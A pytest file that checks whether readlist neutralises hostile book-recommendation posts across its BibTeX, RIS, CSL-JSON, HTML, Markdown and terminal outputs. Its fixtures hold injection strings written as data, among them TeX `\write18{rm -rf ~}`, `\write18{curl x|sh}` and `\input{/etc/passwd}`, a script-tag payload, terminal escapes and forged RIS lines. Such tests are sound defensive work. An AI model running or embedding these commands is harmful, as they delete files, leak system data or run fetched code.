"""Hostile posts through the whole pipeline: `readlist scan` over a text file and a Hacker News
thread full of BibTeX/LaTeX/Markdown/HTML/RIS/terminal syntax, resolved against the local Open
Library stand-in, then every output readlist makes. bibtexparser and biber read exactly the
entries readlist meant (their titles are the extracted ones), no TeX control word from a post
survives, and no other format lets a post's text become structure."""

from __future__ import annotations

import json
import re
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser
from test_bibtex_factory import entries, needs_biber

from readlist.cli import cli
from readlist.export.latex import decode, normalise_text
from readlist.export.validate import bibtexparser_failures, run_biber

# Each is put in a title, around it, and in the author's name.
HOSTILE = ["}", "{", "@comment{", "@preamble{", r"\input{/etc/passwd}", r"\write18{rm -rf ~}",
           "%", "#", "&", "$", "_", "~", "^", "\\", "unbalanced {{{ braces }", "}}}} more",
           "\x07\x1b[31mred\x1b]0;title\x07\x9b2J", "\u202eevil\u202c", "$$x^2$$ \\[ \\]",
           r"\csname end\endcsname \catcode`\%=11 \def\x{\x}\x", "\\\\ \\relax{}\\par"]
LONG = "T" * 10_000
SENTENCE = ('Honestly }} @comment{ x } @preamble{"\\input{/etc/passwd}"} \\write18{curl x|sh} '
            "100% # & $x^2_1$ ~ I recommend Maldevelopment by Samir Amin\n"
            "ER  - \nTY  - JOUR\nTI  - injected\n# Heading\n</li><script>alert(1)</script>\n"
            "@book{evil, title={x}} and it is great.")


def text_posts() -> str:
    posts = [f'Because {h} matters I highly recommend "Book {i} {h} of Things" by Ann Smith{i} '
             f"{h} (it is great {h} really)." for i, h in enumerate(HOSTILE)]
    posts.append(f'I recommend "{LONG}" by Long Author, what a read.')
    posts.append(f"I recommend {LONG} {LONG}.")  # a 20,000-character line with no title
    posts.append(SENTENCE)
    return "\n\n".join(posts) + "\n"


def hn_thread() -> dict[str, object]:
    """NUL and control characters can only arrive in JSON (a text file with NUL is binary)."""
    comment = {"author": "evil}\\input{x}\x00\x1b[31m\u202e", "children": [],
               "created_at": "2023-11-14T23:00:00.000Z", "created_at_i": 1700003600,
               "id": 38000001, "options": [], "parent_id": 38000000, "points": None,
               "story_id": 38000000, "title": None, "type": "comment", "url": None,
               "text": "<p>I recommend <i>Russia and the Long Transition from Capitalism to "
                       "Socialism</i> by Samir Amin \u0000 nul \u0007 bell \u001b[2J {{ } "
                       "\\\\input{/etc/passwd} &lt;script&gt;alert(1)&lt;/script&gt; 100% "
                       "@comment{ #1 &amp; $5 ~x^y_z \u0000.</p>"}
    return {"author": "op\u202e", "children": [comment], "created_at": "2023-11-14T22:13:20Z",
            "created_at_i": 1700000000, "id": 38000000, "options": [], "parent_id": None,
            "points": 1, "story_id": 38000000, "text": "<p>Books?", "type": "story",
            "title": "Ask HN: books @comment{ \\input{x}", "url": None}


@pytest.fixture
def scanned(openlibrary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "hostile.txt").write_text(text_posts(), encoding="utf-8")
    (tmp_path / "hn.json").write_text(json.dumps(hn_thread()), encoding="utf-8")
    # --keep-unknown: the hostile titles no catalogue knows must reach the .bib too
    result = run(["scan", "hostile.txt", "hn.json", "-o", "out.bib", "--mentions",
                  "mentions.jsonl", "--providers", "openlibrary", "--keep-unknown"])
    assert "works: " in result.stderr and "2 sure" in result.stderr, result.stderr
    return tmp_path


def run(args: list[str]) -> Result:
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, (args, result.stderr, result.exception)
    assert "Traceback" not in result.stderr
    return result


def intended(folder: Path) -> set[str]:
    """The titles of the works readlist found, as its own mention records give them."""
    titles = set()
    for line in (folder / "mentions.jsonl").read_text(encoding="utf-8").splitlines():
        m = json.loads(line)
        if m["recommended"] and m["kind"] != "author_only":
            r = m["resolved"]
            title = (r["title"] + (f": {r['subtitle']}" if r["subtitle"] else "")) if r \
                else m["title"]
            titles.add(normalise_text(title))
    return titles


# -- a TeX tokenizer, enough to see what LaTeX would execute --------------------------------------
TOKEN = re.compile(r"\\([A-Za-z@]+|.)|(\$)|([{}])|([%#&_~^])", re.DOTALL)
SAFE_SYMBOLS = {"%", "_", "&", "#", "$"}


def live_tex(value: str) -> list[str]:
    """Control words, control symbols other than the escapes readlist writes, unescaped
    specials, math other than $<$/$>$, and unbalanced braces."""
    found: list[str] = []
    depth = 0
    value = re.sub(r"\$[<>]\$", "", value)
    for m in TOKEN.finditer(value):
        cs, dollar, brace, special = m.groups()
        if cs is not None and (len(cs) > 1 or cs.isalpha() or cs not in SAFE_SYMBOLS):
            found.append("\\" + cs)
        elif dollar:
            found.append("$")
        elif special:
            found.append(special)
        elif brace:
            depth += 1 if brace == "{" else -1
            if depth < 0:
                found.append("unbalanced }")
    if depth:
        found.append("unbalanced {")
    return found


def test_live_tex_sees_commands() -> None:
    assert live_tex(r"\input{/etc/passwd}") == [r"\input"]
    assert live_tex(r"a \% b \$ c $<$ d") == []
    assert live_tex("x}{") == ["unbalanced }"] and live_tex("$x$") == ["$", "$"]
    assert live_tex(r"\\ ~ ^") == ["\\\\", "~", "^"]


# -- BibTeX ----------------------------------------------------------------------------------------
@needs_biber
def test_bibtex_and_biber_read_exactly_the_intended_entries(scanned: Path) -> None:
    bib = scanned / "out.bib"
    text = bib.read_text(encoding="utf-8-sig")
    assert bibtexparser_failures(text) == []
    import bibtexparser

    lib = bibtexparser.parse_string(text)
    assert len(lib.blocks) == len(lib.entries)  # no @comment, @preamble, @string, junk
    ours = entries(text)
    # Every block starts on a line of its own that readlist wrote.
    assert len(re.findall(r"^@", text, re.MULTILINE)) == len(ours)
    assert {decode(f["title"]) for f in ours.values()} == intended(scanned)
    # A 10,000-character quoted "title" is no title to the extractor (18 words at most), so
    # it reaches the .bib only inside notes; test_bibtex_hostile writes one as a title.
    assert all(len(decode(f["title"])) < 1000 for f in ours.values())
    report = run_biber(bib)
    assert report.returncode == 0 and report.errors == [], report.errors
    # Unresolved works may lack a year or an author: data-model warnings, nothing about syntax.
    assert [w for w in report.warnings if "one of 'date, year'" not in w
            and "Missing mandatory field 'author'" not in w] == []
    assert set(report.entries) == set(ours)
    renamed = {"year": "date", "address": "location"}
    for key, fields in ours.items():
        _etype, seen = report.entries[key]
        assert set(seen) == {renamed.get(k, k) for k in fields} - {"keywords"}, key
        for k in ("title", "note", "publisher"):
            if k in fields:
                assert seen[k] == fields[k], (key, k)  # biber saw the same text, not more


def test_no_tex_command_from_a_post_is_live(scanned: Path) -> None:
    ours = entries((scanned / "out.bib").read_text(encoding="utf-8-sig"))
    assert len(ours) >= len(HOSTILE)
    for key, fields in ours.items():
        for name, value in fields.items():
            if name == "url":
                assert not re.search(r"[\s{}\\%#~^$]", value), value
                continue
            assert live_tex(value) == [], (key, name, value[:200])
            assert not [c for c in value if unicodedata.category(c) == "Cc"], (key, name)


def test_hostile_text_is_kept_readable_in_the_notes(scanned: Path) -> None:
    ours = entries((scanned / "out.bib").read_text(encoding="utf-8-sig"))
    notes = " ".join(decode(f["note"]) for f in ours.values())
    for h in (r"\input{/etc/passwd}", "@comment{", "100% # & $x", "@preamble{"):
        assert h in notes  # inert, not deleted: a reader sees what the post said
    assert "\x00" not in notes and "\x1b" not in notes


# -- the other outputs -------------------------------------------------------------------------------
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]")
C0_C1 = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # files for other programs: bidi marks
# are text there (they stay in the .bib too; see the note of issue 9)


def test_ris_has_exactly_one_record_per_entry_and_no_forged_lines(scanned: Path) -> None:
    run(["export", "ris", "out.bib", "--to", "out.ris"])
    ris = (scanned / "out.ris").read_text(encoding="utf-8-sig")
    n = len(entries((scanned / "out.bib").read_text(encoding="utf-8-sig")))
    lines = [x for x in ris.splitlines() if x.strip()]
    assert all(re.match(r"^[A-Z][A-Z0-9]  - ", x) or x == "ER  -" for x in lines), \
        [x for x in lines if not re.match(r"^[A-Z][A-Z0-9]  - |^ER  -$", x)][:3]
    assert sum(x.startswith("TY  - ") for x in lines) == n
    assert sum(x.startswith("ER  -") for x in lines) == n
    assert not any(x.startswith("TI  - injected") for x in lines)
    assert not C0_C1.search(ris)


def test_csl_json_holds_the_same_works(scanned: Path) -> None:
    run(["export", "csljson", "out.bib", "--to", "out.json"])
    items = json.loads((scanned / "out.json").read_text(encoding="utf-8"))
    n = len(entries((scanned / "out.bib").read_text(encoding="utf-8-sig")))
    assert len(items) == n
    wanted = intended(scanned)
    for item in items:  # CSL's title holds the subtitle too
        title = normalise_text(item["title"])
        assert title in wanted or title.split(": ")[0] in wanted, title[:80]
    assert not C0_C1.search(json.dumps(items, ensure_ascii=False))


def test_html_list_has_no_live_markup_from_posts(scanned: Path) -> None:
    run(["list", "out.bib", "-f", "html", "--style", "apa", "-o", "list.html"])
    page = (scanned / "list.html").read_text(encoding="utf-8")
    tree = LexborHTMLParser(page)
    assert tree.css("script") == [] and tree.css("iframe") == [] and tree.css("svg") == []
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), (node.tag, name)
            if name in ("href", "src"):
                assert (value or "").startswith(("https://", "http://", "#")), value
    body = tree.body.text() if tree.body else ""
    assert "<script>alert(1)</script>" in body or "alert(1)" not in page  # text, not a tag
    assert r"\input{/etc/passwd}" in body
    assert not CONTROL.search(page)


def test_markdown_list_keeps_its_structure(scanned: Path) -> None:
    md = run(["list", "out.bib", "-f", "markdown"]).stdout
    n = len(entries((scanned / "out.bib").read_text(encoding="utf-8-sig")))
    tokens = MarkdownIt("commonmark").parse(md)
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    assert not [t for t in tokens for c in (t.children or []) if c.type == "html_inline"]
    headings = [t for t in tokens if t.type == "heading_open"]
    assert len(headings) == 1  # readlist's own title; "# Heading" from a post is text
    assert not CONTROL.search(md)
    titles = [t for t in tokens if t.type == "inline" and t.content.startswith("**")]
    assert len(titles) == n


def test_markdown_list_is_one_list_of_works(scanned: Path) -> None:
    md = run(["list", "out.bib", "-f", "markdown"]).stdout
    n = len(entries((scanned / "out.bib").read_text(encoding="utf-8-sig")))
    tokens = MarkdownIt("commonmark").parse(md)
    assert len([t for t in tokens if t.type == "ordered_list_open"]) == 1
    top = [t for t in tokens if t.type == "list_item_open" and t.level == 1]
    assert len(top) == n


@pytest.mark.parametrize("fmt", ["text", "table", "json"])
def test_terminal_output_has_no_escape_from_posts(scanned: Path, fmt: str) -> None:
    out = run(["list", "out.bib", "-f", fmt]).stdout
    assert not CONTROL.search(out), CONTROL.findall(out)[:5]
    assert "red" in out or fmt == "table"  # the text of the post is there, its ESC is not


def test_scan_chatter_and_mentions_have_no_escape_from_posts(scanned: Path) -> None:
    result = run(["scan", "hostile.txt", "hn.json", "--no-resolve", "-o", "again.bib",
                  "--mentions", "-"])
    assert not CONTROL.search(result.stderr)
    # JSON Lines on stdout: still valid JSON, with the controls written as \u escapes.
    assert not CONTROL.search(result.stdout), CONTROL.findall(result.stdout)[:5]
    records = [json.loads(x) for x in result.stdout.splitlines()]
    assert any("\u202e" in r["title"] for r in records)  # the data is kept, escaped
